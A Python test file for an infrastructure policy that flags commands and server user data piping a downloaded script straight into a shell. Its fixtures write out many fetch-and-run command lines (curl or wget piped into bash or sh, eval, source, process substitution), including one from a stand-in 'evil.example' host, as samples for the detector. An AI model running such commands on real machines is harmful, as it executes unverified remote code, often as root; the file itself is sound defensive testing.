"""installers-disallow-unverified-pipe-to-shell, through the pack: what a command runs or a server's user data must
not feed a download straight into a shell, in any of the shell's spellings; a download pinned to a commit, or saved,
checked and then run, passes."""

from typing import Any

import pytest

from preview.values import UNKNOWN, Secret
from tests.policies.conftest import Check, Resource

POLICY = "installers-disallow-unverified-pipe-to-shell"
REMOTE = "command:remote:Command"
LOCAL = "command:local:Command"
SERVER = "hcloud:index/server:Server"

COOLIFY = "https://cdn.coollabs.io/coolify/install.sh"
DOCKER = "https://get.docker.com"
COMMIT = "3f1c5c3b2a9e8d7f6e5d4c3b2a1f0e9d8c7b6a5f"
SHA256 = "9b2a4c6e8f0d1b3a5c7e9f1d3b5a7c9e1f3d5b7a9c1e3f5d7b9a1c3e5f7d9b1a"
# The installer saved to a file, checked against the digest the program pins, then run.
VERIFIED = (
    f"curl -fsSL -o /tmp/coolify-install.sh {COOLIFY}\n"
    f"echo '{SHA256}  /tmp/coolify-install.sh' | sha256sum --check --strict\n"
    "bash /tmp/coolify-install.sh\n"
)


def command(create: Any = VERIFIED, kind: str = REMOTE, **props: Any) -> Resource:
    return Resource(kind, {"create": create, **props}, name="install-coolify")


def piped(url: str, key: str = "create") -> str:
    return (
        f"{key} pipes {url} into a shell: whatever that address serves today runs as root, unpinned and unverified; "
        "download a pinned release to a file, check its sha256 (sha256sum --check), then run it."
    )


@pytest.mark.parametrize(
    "script",
    [
        VERIFIED,
        f"curl -fsSLo /tmp/i.sh {COOLIFY} && echo '{SHA256}  /tmp/i.sh' | sha256sum -c && sh /tmp/i.sh",
        f"curl -fsSL https://raw.githubusercontent.com/coollabsio/coolify/{COMMIT}/scripts/install.sh | bash",
        f"curl -fsSL {COOLIFY} | tee /tmp/coolify-install.sh",
        f"curl -fsSL {COOLIFY} | sudo tee /tmp/coolify-install.sh > /dev/null",
        "curl -fsSL https://api.github.com/repos/coollabsio/coolify/releases/latest | jq -r .tag_name",
        "curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
        f"curl -fsSL {COOLIFY} | sha256sum",
        f"curl -fsSL {COOLIFY} | shasum -a 256",
        f"curl -fsSL {COOLIFY} | shellcheck -",
        f"diff <(curl -fsSL {COOLIFY}) /opt/coolify-install.sh",
        f"./verify.sh <(curl -fsSL {COOLIFY})",
        "apt-get update && apt-get install -y docker.io",
        UNKNOWN,
    ],
    ids=["download-check-run", "download-check-run-one-line", "pinned-commit", "tee", "sudo-tee", "jq", "gpg",
         "sha256sum", "shasum", "shellcheck", "compared", "a-checker-named-sh", "no-download", "unknown"],
)  # fmt: skip
def test_verified_or_harmless_downloads_pass(check: Check, script: Any) -> None:
    assert check(POLICY, command(script)) == []


@pytest.mark.parametrize(
    ("script", "url"),
    [
        (f"curl -fsSL {COOLIFY} | bash", COOLIFY),
        (f"wget -qO- {DOCKER} | sudo -E bash -s", DOCKER),
        (f"wget -O - {DOCKER} | sh", DOCKER),
        (f"curl -fsSL {DOCKER}|sh", DOCKER),
        (f'curl -fsSL "{COOLIFY}" | sudo bash', COOLIFY),
        (f"curl -fsSL {COOLIFY} | /bin/bash -s -- --version 4.0.0", COOLIFY),
        (f"curl -fsSL {COOLIFY} | /usr/bin/zsh", COOLIFY),
        (f"bash <(curl -s {COOLIFY})", COOLIFY),
        (f"sudo bash <(wget -qO- {DOCKER})", DOCKER),
        (f'sh -c "$(curl -fsSL {COOLIFY})"', COOLIFY),
        (f"bash -c '$(wget -qO- {DOCKER})'", DOCKER),
        # A branch or a tag moves; only a commit pins what the address serves.
        (
            "curl -fsSL https://raw.githubusercontent.com/coollabsio/coolify/main/scripts/install.sh | bash",
            "https://raw.githubusercontent.com/coollabsio/coolify/main/scripts/install.sh",
        ),
        (
            "curl -fsSL https://raw.githubusercontent.com/coollabsio/coolify/v4.0.0/scripts/install.sh | bash",
            "https://raw.githubusercontent.com/coollabsio/coolify/v4.0.0/scripts/install.sh",
        ),
        (f"curl -fsSL {COOLIFY} | tee /tmp/coolify-install.sh | sudo bash", COOLIFY),
        (f"curl -fsSL \\\n  {COOLIFY} \\\n  | bash\n", COOLIFY),
        (f"curl -fsSL {COOLIFY} 2>&1 | /usr/bin/env bash", COOLIFY),
        (f"curl -fsSL {COOLIFY} | sudo -u root bash", COOLIFY),
    ],
    ids=["curl-bash", "wget-sudo-bash", "wget-dash-o", "no-spaces", "quoted-url", "bin-bash-args", "zsh",
         "process-substitution", "sudo-process-substitution", "command-substitution", "wget-command-substitution",
         "branch", "tag", "teed-on-the-way", "continued-lines", "env-bash", "sudo-user"],
)  # fmt: skip
def test_a_download_piped_into_a_shell_is_refused(check: Check, script: str, url: str) -> None:
    assert check(POLICY, command(script)) == [piped(url)]


@pytest.mark.parametrize("key", ["update", "delete", "stdin"])
def test_every_script_input_of_a_command_is_read(check: Check, key: str) -> None:
    resource = command(**{key: f"curl -fsSL {COOLIFY} | bash"})
    assert check(POLICY, resource) == [piped(COOLIFY, key)]


def test_each_input_is_named(check: Check) -> None:
    script = f"curl -fsSL {COOLIFY} | bash"
    resource = command(script, update=script, delete="docker rm -f coolify", stdin=f"wget -qO- {DOCKER} | sh\n")
    assert check(POLICY, resource) == [piped(COOLIFY), piped(COOLIFY, "update"), piped(DOCKER, "stdin")]


def test_a_local_command_is_read_too(check: Check) -> None:
    assert check(POLICY, command(f"curl -fsSL {DOCKER} | sh", kind=LOCAL)) == [piped(DOCKER)]


def test_a_secret_script_is_read_too(check: Check) -> None:
    # A command that carries a token is marked secret as a whole; the pack sees it unwrapped.
    assert check(POLICY, command(Secret(f"TOKEN=abc curl -fsSL {COOLIFY} | bash"))) == [piped(COOLIFY)]


@pytest.mark.parametrize(
    ("user_data", "url"),
    [
        (f"#cloud-config\nruncmd:\n  - curl -fsSL {DOCKER} | sh\n", DOCKER),
        (f"#!/bin/bash\nset -eu\nwget -qO- {COOLIFY} | bash\n", COOLIFY),
    ],
    ids=["cloud-config-runcmd", "shell-script"],
)
def test_a_servers_user_data_is_read(check: Check, user_data: str, url: str) -> None:
    server = Resource(SERVER, {"serverType": "cx22", "image": "debian-12", "userData": user_data}, name="web")
    assert check(POLICY, server) == [piped(url, "userData")]


def test_two_pipes_in_one_script_are_two_findings(check: Check) -> None:
    script = f"set -e\ncurl -fsSL {DOCKER} | sh\ncurl -fsSL {COOLIFY} | bash\n"
    assert check(POLICY, command(script)) == [piped(DOCKER), piped(COOLIFY)]


def test_other_resources_are_not_read(check: Check) -> None:
    # Only what runs on a machine counts: the same text in another resource's input is data.
    note = Resource("random:index/randomString:RandomString", {"create": f"curl {COOLIFY} | bash"}, name="note")
    server = Resource(SERVER, {"labels": {"setup": f"curl {COOLIFY} | bash"}}, name="web")
    assert check(POLICY, note, server) == []


@pytest.mark.parametrize(
    ("script", "url"),
    [
        (f'U={DOCKER}; curl -fsSL "$U" | sh', "$U"),
        (f"source <(curl -fsSL {COOLIFY})", COOLIFY),
        (f'eval "$(curl -fsSL {COOLIFY})"', COOLIFY),
        (f"curl -fsSL https://evil.example/{COMMIT}/install.sh | bash", f"https://evil.example/{COMMIT}/install.sh"),
    ],
    ids=["url-in-a-variable", "source", "eval", "commit-like-path-on-any-host"],
)
def test_other_spellings_of_running_a_download_are_refused(check: Check, script: str, url: str) -> None:
    assert check(POLICY, command(script)) == [piped(url)]
